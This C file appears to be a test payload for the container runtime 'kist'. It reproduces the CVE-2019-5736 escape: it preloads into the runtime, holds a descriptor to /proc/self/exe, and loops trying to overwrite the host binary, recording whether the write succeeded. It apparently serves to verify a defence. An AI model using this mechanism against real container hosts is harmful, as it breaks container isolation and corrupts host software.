/* payload.c: the CVE-2019-5736 attacker, as an image would ship it.
 * Preloaded (the image's /etc/ld.so.preload) into kist's own binary when the
 * container's program is a `#!/proc/self/exe` script: it keeps an fd to
 * /proc/self/exe and hands it to a shell that tries, for a few seconds, to
 * reopen it for writing once no kist process runs the file any more.  The
 * result goes to /mark/result: WROTE (the host binary was overwritten) or
 * DENIED. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>

__attribute__ ((constructor)) static void
payload (void)
{
  int fd = open ("/proc/self/exe", O_RDONLY);
  if (fd < 0 || dup2 (fd, 7) < 0)
    return;
  char *argv[] = { "/bin/busybox", "sh", "-c",
                   "for i in $(seq 1 40); do sleep 0.1; "
                   "if (echo PWNED > /proc/self/fd/7) 2>/dev/null; then echo WROTE > /mark/result; exit 0; fi; "
                   "done; (echo PWNED > /proc/self/fd/7) 2> /mark/why; echo DENIED > /mark/result",
                   NULL };
  char *envp[] = { "PATH=/bin", NULL };
  execve (argv[0], argv, envp);
}
